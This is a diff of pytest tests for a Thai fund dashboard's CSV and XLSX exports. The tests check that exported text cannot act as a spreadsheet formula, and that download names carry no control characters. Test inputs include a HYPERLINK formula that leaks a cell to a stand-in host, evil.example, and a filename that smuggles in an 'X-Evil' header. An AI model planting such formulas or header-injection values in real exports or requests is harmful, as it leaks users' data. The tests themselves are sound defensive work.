@@ -10,12 +10,14 @@ data loaded.
 from __future__ import annotations
 
 import asyncio
+import csv
 import datetime as dt
 import io
 import json
 import re
 import shutil
 import uuid
+import zipfile
 from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
@@ -25,13 +27,15 @@ import pytest
 from aiohttp import web
 from openpyxl import load_workbook
 from pypdf import PdfReader
+from sqlalchemy import text as sql_text
 
 from gateway.dashboard import charts, pdf, tables, thai
 from shared import figures
-from shared.auth import Role
+from shared.auth import Role, TokenVerifier
+from shared.http1 import Answer
 from tests.support.apps import gateway_app
-from tests.support.factories import make_books, make_fund
-from tests.support.helpers import ADMIN_PASSWORD, ADMIN_PHONE, Tokens, free_port, serving
+from tests.support.factories import make_books, make_fund, person
+from tests.support.helpers import ADMIN_PASSWORD, ADMIN_PHONE, AUDIENCE, ISSUER, Tokens, free_port, serving
 
 RESULTS = Path(__file__).resolve().parents[2] / "bench-results"
 
@@ -87,6 +91,79 @@ def test_tables_open_in_excel_with_thai_and_money_as_numbers() -> None:
     assert sheet.cell(row=3, column=2).number_format == "#,##0.00"
     disposition = tables.attachment("ตารางกองทุน.csv")["Content-Disposition"]
     assert disposition.startswith('attachment; filename="') and "filename*=UTF-8''%E0%B8%95" in disposition
+
+
+# --- Text from data is never a formula (issue 19, point 5) --------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")'
+
+
+@pytest.mark.parametrize(
+    ("text", "csv_cell", "xlsx_text"),
+    [
+        ("สมศรี", "สมศรี", "สมศรี"),
+        (FORMULA, "'" + FORMULA, FORMULA),
+        ("+66812345678", "'+66812345678", "+66812345678"),  # text, so quoted: OWASP's practice
+        ("-", "'-", "-"),
+        ("-5", "'-5", "-5"),  # a negative *text*; negative numbers are numbers (below)
+        ("@SUM(A1)", "'@SUM(A1)", "@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1", "\t=1+1"),
+        ("\r=1+1", "'\r=1+1", "\r=1+1"),
+        ("a=b", "a=b", "a=b"),
+        (" =1+1", " =1+1", " =1+1"),
+        ("", "", ""),
+        ("ก\x07ข\x1b", "ก\ufffdข\ufffd", "ก\ufffdข\ufffd"),  # what XML cannot hold: U+FFFD, in both formats
+        ("\x00=1", "\ufffd=1", "\ufffd=1"),
+        ("=\x0b\x0c", "'=\ufffd\ufffd", "=\ufffd\ufffd"),
+        ("\ud800ก\uffff", "\ufffdก\ufffd", "\ufffdก\ufffd"),  # lone surrogate, a non-character
+        ("บรรทัด 1\nบรรทัด\t2\r", "บรรทัด 1\nบรรทัด\t2\r", "บรรทัด 1\nบรรทัด\t2\r"),  # XML holds these
+        ("\x7f\x85", "\x7f\x85", "\x7f\x85"),
+    ],
+)
+def test_a_text_cell_is_made_safe_in_one_place(text: str, csv_cell: str, xlsx_text: str) -> None:
+    assert tables.safe_text(text, "csv") == csv_cell
+    assert tables.safe_text(text, "xlsx") == xlsx_text
+
+
+def csv_rows(body: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+
+
+def xlsx_cells(body: bytes) -> list[list[Any]]:
+    """The sheet's cells (openpyxl's), after checking that the file holds no formula at all."""
+    with zipfile.ZipFile(io.BytesIO(body)) as book:
+        for name in book.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert not re.search(rb"<(\w+:)?f[ >/]", book.read(name)), f"a formula in {name}"
+    sheet = load_workbook(io.BytesIO(body)).active
+    cells = [list(row) for row in sheet.iter_rows()]
+    assert all(c.data_type != "f" for row in cells for c in row)
+    return cells
+
+
+def test_text_is_text_and_numbers_stay_numbers_in_both_files() -> None:
+    table = tables.Table(title="รายการ", heading=[FORMULA, "กองทุน\x07บ้านส้อง"],
+                         columns=[tables.Column("ชื่อ"), tables.Column("จำนวนเงิน (บาท)", "money"), tables.Column("ครั้ง", "int"),
+                                  tables.Column("ร้อยละ", "pct"), tables.Column("หมายเหตุ")],
+                         rows=[[FORMULA, -12_345, -3, -1.5, "-"], ["#N/A", 0, 0, 0.0, "\x1b[31m"], ["+1", None, None, None, -7]])
+    rows = csv_rows(tables.to_csv(table))
+    assert rows[:2] == [["'" + FORMULA], ["กองทุน\ufffdบ้านส้อง"]]
+    assert rows[3:] == [["'" + FORMULA, "-123.45", "-3", "-1.5", "'-"], ["#N/A", "0.00", "0", "0.0", "\ufffd[31m"],
+                        ["'+1", "", "", "", "-7"]], "negative numbers are numbers; text starting with - is quoted"
+    cells = xlsx_cells(tables.to_xlsx(table))
+    assert [(c.value, c.data_type) for c in cells[0][:1] + cells[1][:1]] == [(FORMULA, "s"), ("กองทุน\ufffdบ้านส้อง", "s")]
+    assert [(c.value, c.data_type) for c in cells[3]] == [(FORMULA, "s"), (-123.45, "n"), (-3, "n"), (-1.5, "n"), ("-", "s")]
+    assert [(c.value, c.data_type) for c in cells[4]] == [("#N/A", "s"), (0, "n"), (0, "n"), (0, "n"), ("\ufffd[31m", "s")]
+    assert [(c.value, c.data_type) for c in cells[5]] == [("+1", "s"), (None, "n"), (None, "n"), (None, "n"), (-7, "n")]
+    assert cells[3][0].quotePrefix and cells[0][0].quotePrefix and not cells[4][0].quotePrefix, "editing keeps it text"
+    assert cells[3][1].number_format == "#,##0.00"
+
+
+def test_a_download_name_carries_no_control_character() -> None:
+    disposition = tables.attachment('ทะเบียนสมาชิก-กองทุน\x07\r\nX-Evil: 1"\\.csv')["Content-Disposition"]
+    assert not re.search(r"[\x00-\x1f\x7f]", disposition)
+    assert disposition.startswith('attachment; filename="') and disposition.count('"') == 2
+    assert "%07" not in disposition and "%0D%0A" not in disposition
 
 
 # --- PDFs ----------------------------------------------------------------------------------------------------
@@ -456,6 +533,99 @@ async def test_downloads_as_csv_and_xlsx(composed) -> None:
     assert income.content.decode("utf-8-sig").split("\r\n")[3:6] == [
         "เงินสัจจะสมาชิก,1312175.00,70.0", "รัฐ (พอช.),1008384.00,30.0", "รวม,2320559.00,100.0"]
     assert (await client.get(f"/v1/dashboard/funds/{FUND_A}/exports/members.pdf", headers=admin)).status_code == 422
+
+
+class ServicesWire:
+    """The gateway forwarder's client (``Http1Client.send``), answered by the real services' ASGI
+    apps instead of sockets, one call at a time: each service works on one rolled-back connection,
+    which cannot take two requests at once."""
+
+    def __init__(self, clients: dict[str, httpx.AsyncClient]) -> None:
+        self.clients = clients
+        self.one_at_a_time = asyncio.Lock()
+
+    async def send(self, host: str, port: int, method: str, target: bytes, *, headers: Any = (), body: bytes = b"") -> Answer:
+        async with self.one_at_a_time:
+            response = await self.clients[host].request(method, target.decode("latin-1"), content=body, headers=list(headers))
+        return Answer(status=response.status_code, headers=[(k.lower(), v) for k, v in response.headers.raw], body=response.content)
+
+    async def close(self) -> None:
+        """The clients are the service_client fixture's."""
+
+
+@pytest.fixture
+async def wired(engines, service_client, tokens) -> AsyncIterator[tuple[httpx.AsyncClient, Tokens]]:
+    """The gateway in front of the real members and ledger services, which trust its keys too;
+    yields its client and tokens it signs."""
+    services = {name: await service_client(name) for name in ("members", "ledger")}
+    async with gateway_app(engines["gateway"], **{f"{name}_url": f"http://{name}" for name in
+                                                  ("members", "ledger", "benefits", "grants")}) as (app, client):
+        keyring = app.state.keyring
+        trusted = {"keys": tokens.jwks["keys"] + keyring.jwks()["keys"]}
+        for service in services.values():
+            service._transport.app.state.verifier = TokenVerifier(issuer=ISSUER, audience=AUDIENCE, jwks=trusted)
+        await app.state.forwarder.client.close()
+        app.state.forwarder.client = ServicesWire(services)
+        yield client, Tokens(pem=keyring._current_pem, kid=keyring.current_kid, jwks=keyring.jwks())
+
+
+async def test_a_member_registered_as_a_formula_is_text_in_every_export(wired, service_client, tokens) -> None:
+    client, signed = wired
+    books = await make_books(service_client, tokens, members_count=0)
+    registered = await books.fund.register(person(901, title="@SUM(1+1)", first_name=FORMULA, last_name="-", house_no="+1"))
+    assert registered.status_code == 201, registered.text
+    member_id = registered.json()["id"]
+    books.member_ids.append(member_id)
+    deposit = books.deposit(amount=10_000)
+    assert (await books.post("/deposits", deposit, books.collector_headers)).status_code == 201
+    undone = await books.post_confirmed(f"/deposits/{deposit['id']}/reverse", {"id": str(uuid.uuid4()), "reason": "ผิดคน"})
+    assert undone.status_code == 200, undone.text
+    committee = signed.headers(Role.committee, fund_id=books.id)
+    roll = f"/v1/dashboard/funds/{books.id}/exports/members"
+
+    answer = await client.get(f"{roll}.csv", headers=committee)
+    assert answer.status_code == 200, answer.text
+    row = csv_rows(answer.content)[3]
+    assert row[:5] == ["1", row[1], "'@SUM(1+1)", "'" + FORMULA, "'-"] and row[7] == "'+1"
+    answer = await client.get(f"{roll}.xlsx", headers=committee)
+    assert answer.status_code == 200, answer.text
+    row = xlsx_cells(answer.content)[3]
+    assert [(c.value, c.data_type) for c in (row[2], row[3], row[4], row[7])] == [
+        ("@SUM(1+1)", "s"), (FORMULA, "s"), ("-", "s"), ("+1", "s")]
+    assert (row[0].value, row[0].data_type) == (1, "n")
+
+    statement = f"/v1/dashboard/funds/{books.id}/members/{member_id}/exports/statement"
+    lines = csv_rows((await client.get(f"{statement}.csv", headers=committee)).content)
+    assert [line[3:] for line in lines[4:]] == [["100.00", "100.00"], ["-100.00", "0.00"]], "a negative amount is a number"
+    cells = xlsx_cells((await client.get(f"{statement}.xlsx", headers=committee)).content)
+    assert [(c.value, c.data_type) for c in cells[5][3:]] == [(-100, "n"), (0, "n")]
+
+    # The web dashboard's downloads are the same files.
+    await client.post("/dashboard/login", data={"phone": ADMIN_PHONE, "password": ADMIN_PASSWORD, "next": "/dashboard"})
+    page = f"/dashboard/funds/{books.id}/exports/members"
+    assert csv_rows((await client.get(f"{page}.csv")).content)[3][3] == "'" + FORMULA
+    row = xlsx_cells((await client.get(f"{page}.xlsx")).content)[3]
+    assert (row[3].value, row[3].data_type) == (FORMULA, "s")
+
+
+async def test_a_fund_name_with_control_characters_from_old_data_still_exports(wired, service_client, tokens) -> None:
+    client, signed = wired
+    members = await service_client("members")
+    fund = await make_fund(members, tokens, name="กองทุนสวัสดิการชุมชนตำบลเก่า")
+    assert (await fund.register(person(902))).status_code == 201
+    old = "กองทุน\x07สวัสดิการ\x1bชุมชน\x0bตำบลเก่า"  # written before input refused it
+    await members._transport.app.state.db.bind.execute(sql_text("UPDATE funds SET name = :name WHERE id = :id"),
+                                                       {"name": old, "id": fund.id})
+    shown = "กองทุน\ufffdสวัสดิการ\ufffdชุมชน\ufffdตำบลเก่า"
+    admin = signed.headers()
+    funds = {fmt: await client.get(f"/v1/dashboard/exports/funds.{fmt}", headers=admin) for fmt in ("csv", "xlsx")}
+    rolls = {fmt: await client.get(f"/v1/dashboard/funds/{fund.id}/exports/members.{fmt}", headers=admin) for fmt in ("csv", "xlsx")}
+    assert [a.status_code for a in (*funds.values(), *rolls.values())] == [200] * 4
+    assert shown in [row[1] for row in csv_rows(funds["csv"].content)[3:]]
+    assert shown in [row[1].value for row in xlsx_cells(funds["xlsx"].content)[3:]]
+    assert csv_rows(rolls["csv"].content)[0][0] == xlsx_cells(rolls["xlsx"].content)[0][0].value == f"ทะเบียนสมาชิก {shown}"
+    for roll in rolls.values():
+        assert not re.search(r"[\x00-\x1f\x7f]", roll.headers["content-disposition"]), "a header cannot carry controls"
 
 
 # --- The web pages and their login ---------------------------------------------------------------------------
